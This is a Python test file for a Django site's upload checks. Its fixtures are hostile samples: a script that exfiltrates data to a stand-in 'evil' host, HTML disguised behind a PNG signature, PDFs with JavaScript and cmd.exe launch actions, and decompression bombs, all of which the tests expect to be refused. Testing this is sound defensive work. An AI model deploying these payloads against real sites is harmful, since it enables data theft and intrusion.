"""Issue 13: every uploaded file's type is decided by its content (pictures decoded and re-encoded, PDFs
checked as PDFs), stored under a name the server chooses and served with the stored type, `nosniff`, a
sandbox, and as a download unless it is a picture. The attack of the report first: `photo.html`, PNG's
signature followed by a script, opened by the bureau."""

import datetime
import io
import re
import zlib
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from assessments import services as assessment_services
from assessments.enums import AttendanceStatus, MeetingKind, SixStandard, VenueKind
from assessments.models import Meeting, MeetingAttachment, VenueCheck
from core.uploads import FILE_CSP, IMAGE_TYPES, upload_check
from funding.models import WelfarePayment
from funding.services import welfare
from tests.concurrency import opened
from tests.uploads import image_bytes, jpeg, pdf, pdf_bytes

pytestmark = pytest.mark.django_db

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>fetch('/members/').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)</script>"
STORED_NAME = re.compile(r"[0-9a-f]{32}\.(jpg|png|pdf)")


@pytest.fixture(autouse=True)
def chinese():
    with translation.override("zh-hans"):
        yield


def refusal(upload, **kwargs) -> list[str]:
    with pytest.raises(ValidationError) as exc:
        upload_check(upload, **kwargs)
    return exc.value.messages


def pdf_with(dictionary: bytes) -> bytes:
    """A small PDF whose catalog carries `dictionary`, with the structure every PDF ends with."""
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + dictionary + b" >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
    )


def object_stream_pdf(objects: bytes) -> bytes:
    """A PDF 1.5 whose dictionaries are packed, compressed, in an object stream."""
    packed = zlib.compress(objects)
    return (
        b"%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
    )


def served(response) -> bytes:
    return b"".join(response.streaming_content)  # read to the end: the file is closed


# The check itself.


def test_upload_html_posing_as_a_png_is_refused():
    attack = SimpleUploadedFile("photo.html", PNG_SIGNATURE + SCRIPT, content_type="image/png")
    assert refusal(attack) == ["photo.html不是JPEG或PNG照片，也不是PDF扫描件。"]


def test_upload_png_with_a_script_appended_is_stored_reencoded_under_a_server_name():
    original = image_bytes("PNG", size=(5, 4), color=(200, 30, 40))
    checked = upload_check(SimpleUploadedFile("photo.html", original + SCRIPT))
    content = checked.file.read()
    assert (checked.content_type, STORED_NAME.fullmatch(checked.file.name)[1]) == ("image/png", "png")
    assert (SCRIPT in content, b"<script" in content, checked.size) == (False, False, len(content))
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, image.size, image.getpixel((0, 0))) == ("PNG", (5, 4), (200, 30, 40))


def test_upload_jpeg_stays_a_jpeg_without_its_metadata():
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription
    out = io.BytesIO()
    Image.new("RGB", (16, 8), "blue").save(out, format="JPEG", exif=exif)
    checked = upload_check(SimpleUploadedFile("会场.jpeg", out.getvalue()))
    content = checked.file.read()
    assert (checked.content_type, checked.file.name.endswith(".jpg"), b"<script" in content) == (
        "image/jpeg",
        True,
        False,
    )
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, image.size, dict(image.getexif())) == ("JPEG", (16, 8), {})


def test_upload_jpeg_turned_upright_by_its_orientation():
    exif = Image.Exif()
    exif[0x0112] = 6  # taken with the phone turned: rotate 90° clockwise to show
    out = io.BytesIO()
    Image.new("RGB", (16, 8), "blue").save(out, format="JPEG", exif=exif)
    checked = upload_check(SimpleUploadedFile("竖拍.jpg", out.getvalue()))
    with Image.open(checked.file) as image:
        assert image.size == (8, 16)


def test_upload_gif_stored_as_png():
    checked = upload_check(SimpleUploadedFile("动图.gif", image_bytes("GIF", mode="P", color=3)))
    assert (checked.content_type, checked.file.name.endswith(".png")) == ("image/png", True)


def test_upload_real_pdf_kept_as_it_is_under_a_server_name():
    checked = upload_check(SimpleUploadedFile("收据.html", pdf_bytes()))
    assert (checked.content_type, checked.file.read(), STORED_NAME.fullmatch(checked.file.name)[1]) == (
        "application/pdf",
        pdf_bytes(),
        "pdf",
    )


@pytest.mark.parametrize(
    "content",
    [
        pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),  # names written with #xx escapes
        pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        pdf_with(b"/Names << /EmbeddedFiles 7 0 R >>"),
        object_stream_pdf(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    ],
    ids=["javascript", "escaped-names", "launch", "embedded-file", "in-an-object-stream"],
)
def test_upload_pdf_with_script_action_or_embedded_file_refused(content):
    assert refusal(SimpleUploadedFile("收据.pdf", content)) == [
        "收据.pdf含有脚本、动作或嵌入文件：PDF只接受普通扫描件。"
    ]


def test_upload_pdf_with_js_bytes_inside_an_image_stream_accepted():
    """A scan's compressed picture may hold any bytes: only dictionaries are read for actions."""
    scan = (
        b"%PDF-1.4\n4 0 obj\n<< /Type /XObject /Subtype /Image /Length 20 >>\nstream\n/JS (x) /Launch \x00\x01"
        b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
    )
    assert upload_check(SimpleUploadedFile("扫描.pdf", scan)).content_type == "application/pdf"
    clean = object_stream_pdf(b"3 0 << /Type /Page /Parent 2 0 R >>")
    assert upload_check(SimpleUploadedFile("扫描.pdf", clean)).content_type == "application/pdf"


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n<html><script>alert(1)</script></html>",
        b"%PDF-1.4 <html><script>alert(1)</script> %%EOF",
        pdf_bytes()[:-200],
    ],
    ids=["no-end", "no-structure", "cut-short"],
)
def test_upload_fake_or_damaged_pdf_refused(content):
    assert refusal(SimpleUploadedFile("扫描.pdf", content)) == [
        "扫描.pdf是损坏或加密的PDF：请重新保存为不加密的普通PDF扫描件。"
    ]


def test_upload_decompression_bomb_refused_with_a_message():
    """64 million pixels packed into a few kilobytes: refused before a byte of them is decoded."""
    bomb = image_bytes("PNG", size=(8000, 8000), mode="1", color=0)
    assert len(bomb) < 100_000
    assert refusal(SimpleUploadedFile("bomb.png", bomb)) == ["bomb.png图片过大（8000 × 8000像素）：最多50百万像素。"]


def test_upload_bomb_beyond_pillows_own_limit_refused_with_a_message():
    bomb = image_bytes("PNG", size=(14000, 14000), mode="1", color=0)
    assert refusal(SimpleUploadedFile("bomb.png", bomb)) == ["bomb.png图片过大：最多50百万像素。"]


def test_upload_larger_than_ten_megabytes_refused():
    big = SimpleUploadedFile("大.png", image_bytes("PNG") + b"0" * (10 * 1024 * 1024))
    assert refusal(big) == ["大.png超过10 MB。"]


def test_upload_truncated_image_refused():
    assert refusal(SimpleUploadedFile("半张.png", image_bytes("PNG", size=(64, 64))[:60])) == [
        "半张.png不是JPEG或PNG照片，也不是PDF扫描件。"
    ]


def test_upload_pdf_refused_where_only_a_photo_is_expected():
    assert refusal(pdf("照片.pdf"), types=IMAGE_TYPES) == ["照片.pdf不是JPEG或PNG照片。"]


# Meeting photos and sign-in sheets, through the meeting form.


def meeting_post(zone, attachments):
    data = {
        "kind": MeetingKind.GENERAL,
        "held_on": "2024-03-15",
        "place": "党员活动室",
        "topic": "学习新党章",
        "chaired_by": zone.b1_members[0].pk,
        "attachments": attachments,
    }
    data.update({f"attendance_{m.pk}": AttendanceStatus.PRESENT for m in zone.b1_members})
    return data


def test_meeting_form_refuses_html_posing_as_a_photo(zone, users, client_for):
    attack = SimpleUploadedFile("photo.html", PNG_SIGNATURE + SCRIPT, content_type="image/png")
    url = reverse("assessments:meeting_create", args=[zone.b1.pk])
    response = client_for(users.branch_admin).post(url, meeting_post(zone, attack))
    assert response.context["form"].errors["attachments"] == ["photo.html不是JPEG或PNG照片，也不是PDF扫描件。"]
    assert (Meeting.objects.count(), MeetingAttachment.objects.count()) == (0, 0)


def test_meeting_photo_served_reencoded_inline_with_its_type(zone, users, client_for):
    upload = SimpleUploadedFile("photo.html", image_bytes("PNG") + SCRIPT, content_type="text/html")
    client_for(users.branch_admin).post(
        reverse("assessments:meeting_create", args=[zone.b1.pk]), meeting_post(zone, upload)
    )
    attachment = MeetingAttachment.objects.get()
    response = client_for(users.bureau).get(reverse("assessments:attachment", args=[attachment.pk]))
    body = served(response)
    assert (attachment.file_name, attachment.content_type, attachment.size) == ("photo.html", "image/png", len(body))
    assert STORED_NAME.fullmatch(attachment.file.name.rsplit("/", 1)[-1])
    assert (response["Content-Type"], response["X-Content-Type-Options"], response["Content-Security-Policy"]) == (
        "image/png",
        "nosniff",
        FILE_CSP,
    )
    assert response["Content-Disposition"] == 'inline; filename="photo.png"'
    assert (body.startswith(PNG_SIGNATURE), b"<script" in body) == (True, False)


def test_meeting_sign_in_sheet_pdf_served_as_a_download(zone, users, client_for):
    client_for(users.branch_admin).post(
        reverse("assessments:meeting_create", args=[zone.b1.pk]), meeting_post(zone, pdf("签到表.pdf"))
    )
    attachment = MeetingAttachment.objects.get()
    response = client_for(users.branch_admin).get(reverse("assessments:attachment", args=[attachment.pk]))
    assert (served(response), response["Content-Type"], response["X-Content-Type-Options"]) == (
        pdf_bytes(),
        "application/pdf",
        "nosniff",
    )
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E7%AD%BE%E5%88%B0%E8%A1%A8.pdf"


# Venue photos, through the six-standards form: the path of the report.


def a_venue(zone):
    return assessment_services.venue_create(
        organisation=zone.b1, data={"kind": VenueKind.ACTIVITY_VENUE, "name": "东村党员活动室", "address": "村部"}
    )


def test_venue_photo_form_refuses_the_reported_attack(zone, users, client_for):
    venue = a_venue(zone)
    client = client_for(users.branch_admin)
    url = reverse("assessments:venue_checks", args=[venue.pk])
    attack = SimpleUploadedFile("photo.html", PNG_SIGNATURE + SCRIPT, content_type="image/png")
    response = client.post(
        url, opened(client, url, {"checked_on": "2024-05-06", "met_place": "on", f"photo_{SixStandard.PLACE}": attack})
    )
    assert response.context["form"].non_field_errors() == ["photo.html不是JPEG或PNG照片。"]
    assert VenueCheck.objects.count() == 0


def test_venue_photo_served_with_the_stored_type(zone, users, client_for):
    venue = a_venue(zone)
    client = client_for(users.branch_admin)
    url = reverse("assessments:venue_checks", args=[venue.pk])
    photo = SimpleUploadedFile("photo.html", image_bytes("JPEG") + SCRIPT, content_type="text/html")
    client.post(
        url, opened(client, url, {"checked_on": "2024-05-06", "met_place": "on", f"photo_{SixStandard.PLACE}": photo})
    )
    check = VenueCheck.objects.get(standard=SixStandard.PLACE)
    stored = check.photo.name.rsplit("/", 1)[-1]
    response = client_for(users.bureau).get(reverse("assessments:venue_photo", args=[check.pk]))
    body = served(response)
    assert (STORED_NAME.fullmatch(stored)[1], response["Content-Type"], response["X-Content-Type-Options"]) == (
        "jpg",
        "image/jpeg",
        "nosniff",
    )
    assert response["Content-Disposition"] == f'inline; filename="{stored}"'
    assert (body.startswith(b"\xff\xd8\xff"), b"<script" in body) == (True, False)


def test_venue_photo_stored_before_the_check_served_as_an_opaque_download(zone, users, client_for):
    """A file stored under the uploader's name before issue 13: neither its name nor its bytes are trusted."""
    venue = a_venue(zone)
    check = VenueCheck(venue=venue, standard=SixStandard.PLACE, is_met=True, checked_on=datetime.date(2024, 5, 6))
    check.photo.save("photo.html", ContentFile(PNG_SIGNATURE + SCRIPT), save=True)
    response = client_for(users.bureau).get(reverse("assessments:venue_photo", args=[check.pk]))
    assert (response["Content-Type"], response["X-Content-Type-Options"], response["Content-Security-Policy"]) == (
        "application/octet-stream",
        "nosniff",
        FILE_CSP,
    )
    assert response["Content-Disposition"] == 'attachment; filename="photo.bin"'
    assert served(response) == PNG_SIGNATURE + SCRIPT


# Welfare receipts, through the payment form.


def approved_project(zone, bureau):
    project = welfare.welfare_project_propose(organisation=zone.v1, year=2016, name="村道硬化", budget=Decimal(10000))
    return welfare.welfare_project_decide(
        project=project, approved=True, decided_on=datetime.date(2016, 3, 1), user=bureau
    )


def payment_post(receipt):
    return {"paid_on": "2016-06-01", "amount": "100", "payee": "施工队", "receipt_number": "SJ-001", "receipt": receipt}


def test_welfare_receipt_pdf_served_as_a_download_with_its_type(zone, users, client_for):
    project = approved_project(zone, users.bureau)
    client = client_for(users.bureau)
    client.post(reverse("funding:welfare_pay", args=[project.pk]), payment_post(pdf("收据.html")))
    payment = WelfarePayment.objects.get()
    response = client.get(reverse("funding:welfare_receipt", args=[payment.pk]))
    stored = payment.receipt.name.rsplit("/", 1)[-1]
    assert (STORED_NAME.fullmatch(stored)[1], served(response)) == ("pdf", pdf_bytes())
    assert (response["Content-Type"], response["X-Content-Type-Options"], response["Content-Security-Policy"]) == (
        "application/pdf",
        "nosniff",
        FILE_CSP,
    )
    assert response["Content-Disposition"] == f'attachment; filename="{stored}"'


def test_welfare_receipt_pdf_with_javascript_refused_on_the_form(zone, users, client_for):
    project = approved_project(zone, users.bureau)
    receipt = SimpleUploadedFile("收据.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))
    response = client_for(users.bureau).post(reverse("funding:welfare_pay", args=[project.pk]), payment_post(receipt))
    assert response.context["form"].errors["receipt"] == ["收据.pdf含有脚本、动作或嵌入文件：PDF只接受普通扫描件。"]
    assert WelfarePayment.objects.count() == 0


def test_welfare_receipt_photo_served_inline_reencoded(zone, users, client_for):
    project = approved_project(zone, users.bureau)
    client = client_for(users.bureau)
    client.post(reverse("funding:welfare_pay", args=[project.pk]), payment_post(jpeg("收据.jpg")))
    response = client.get(reverse("funding:welfare_receipt", args=[WelfarePayment.objects.get().pk]))
    assert (response["Content-Type"], response["Content-Disposition"].split(";")[0]) == ("image/jpeg", "inline")
    assert served(response).startswith(b"\xff\xd8\xff")
